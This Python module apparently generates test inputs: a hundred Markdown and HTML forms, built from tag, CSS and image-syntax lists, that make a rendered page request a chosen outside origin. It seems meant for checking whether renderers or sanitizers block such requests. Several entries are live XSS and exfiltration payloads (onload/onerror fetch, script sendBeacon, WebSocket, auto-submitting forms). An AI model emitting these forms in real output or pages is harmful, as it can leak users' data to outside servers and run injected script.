"""A hundred forms of Markdown and HTML by which a page asks another origin, which is `{o}`."""

COUNT = 100
_TAGS = (
    "img src",
    "IMG SRC",
    "img/src",
    "img srcset",
    "image href",
    "iframe src",
    "frame src",
    "embed src",
    "object data",
    "video src",
    "video poster",
    "audio src",
    "source src",
    "track src",
    "input type=image src",
    "script src",
    "script type=module src",
    "link rel=stylesheet href",
    "link rel=preload as=image href",
    "link rel=prefetch href",
    "link rel=modulepreload href",
    "link rel=icon href",
    "link rel=manifest href",
    "link rel=dns-prefetch href",
    "link rel=preconnect href",
    "body background",
    "table background",
    "td background",
    "portal src",
    "fencedframe src",
    "applet archive",
    "bgsound src",
)
_STYLES = (
    "background",
    "background-image",
    "list-style-image",
    "cursor",
    "border-image",
    "content",
    "filter",
    "mask",
    "mask-image",
    "clip-path",
    "shape-outside",
    "offset-path",
)
_MARKDOWN = (
    "![biểu đồ]({o}/md-1.png)",
    '![biểu đồ]({o}/md-2.png "tên")',
    "![biểu đồ](<{o}/md-3.png>)",
    "[![biểu đồ]({o}/md-4.png)]({o}/md-4)",
    "![biểu đồ][a]\n\n[a]: {o}/md-5.png",
    "![a][]\n\n[a]: {o}/md-6.png",
    "![a]\n\n[a]: <{o}/md-7.png>",
    "!\\[a]({o}/md-8.png)",
    "![{o}/md-9.png]({o}/md-9.png?d=CPI)",
    "![a](//{h}/md-10.png)",
    "![a](HTTP://{h}/md-11.png)",
    "![a](\n{o}/md-12.png)",
    "![a&#93;&#40;{o}/md-13.png)",
    "&#33;[a]({o}/md-14.png)",
    "!\u200b[a]({o}/md-15.png)",
    "| a |\n|---|\n| ![a]({o}/md-16.png) |",
    "> ![a]({o}/md-17.png)",
    "- ![a]({o}/md-18.png)",
    "# ![a]({o}/md-19.png)",
    "[^1]\n\n[^1]: ![a]({o}/md-20.png)",
    "<{o}/md-21>",
    "{o}/md-22.png",
    "[a]({o}/md-23)",
    ":red[![a]({o}/md-24.png)]",
    ":material/image: ![a]({o}/md-25.png)",
    "$\\href{{{o}/md-26}}{{a}}$",
    "$\\includegraphics{{{o}/md-27.png}}$",
    "$$\\htmlStyle{{background:url({o}/md-28)}}{{a}}$$",
    "$\\url{{{o}/md-29}}$",
    "`![a]({o}/md-30.png)`",
)
_OTHERS = (
    "<svg><image xlink:href='{o}/x-1.png'/></svg>",
    "<svg><use href='{o}/x-2.svg#a'/></svg>",
    "<svg><filter><feImage href='{o}/x-3.png'/></filter></svg>",
    "<svg/onload=fetch('{o}/x-4')>",
    "<style>@import '{o}/x-5.css';</style>",
    "<style>*{{background:url({o}/x-6)}}</style>",
    "<style>@font-face{{font-family:a;src:url({o}/x-7)}}*{{font-family:a}}</style>",
    "<meta http-equiv=refresh content='0;url={o}/x-8'>",
    "<base href='{o}/'><img src=x-9.png>",
    "<picture><source srcset='{o}/x-10.png'><img></picture>",
    "<img src=x onerror=\"new Image().src='{o}/x-11'\">",
    "<details open ontoggle=fetch('{o}/x-12')>",
    "<script>fetch('{o}/x-13')</script>",
    "<script>new WebSocket('ws://{h}/x-14')</script>",
    "<script>navigator.sendBeacon('{o}/x-15')</script>",
    "<iframe srcdoc=\"<img src='{o}/x-16.png'>\"></iframe>",
    "<object><param name=src value='{o}/x-17'></object>",
    "<math href='{o}/x-18'><mtext>a</mtext></math>",
    "<form action='{o}/x-19'><input autofocus onfocus=this.form.submit()></form>",
    "<a href='{o}/x-20' ping='{o}/x-20'>a</a>",
    '<img src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg">'
    '<image href="{o}/x-21"/></svg>\'>',
    "<template shadowrootmode=open><img src='{o}/x-22'></template>",
    "<noscript><img src='{o}/x-23'></noscript>",
    "&lt;img src={o}/x-24&gt;",
    "<IMG\nSRC\n=\n{o}/x-25>",
    "<img src=`{o}/x-26`>",
)


def leaks(origin: str) -> tuple[str, ...]:
    """Return every form, asking this origin ("http://host:port") under a path of its own."""
    host = origin.partition("://")[2]
    forms = [f"<{tag}='{{o}}/tag-{number}'>" for number, tag in enumerate(_TAGS)]
    forms += [
        f"<p style=\"{style}:url('{{o}}/style-{number}')\">a</p>"
        for number, style in enumerate(_STYLES)
    ]
    forms += [*_MARKDOWN, *_OTHERS]
    return tuple(form.format(o=origin, h=host) for form in forms)
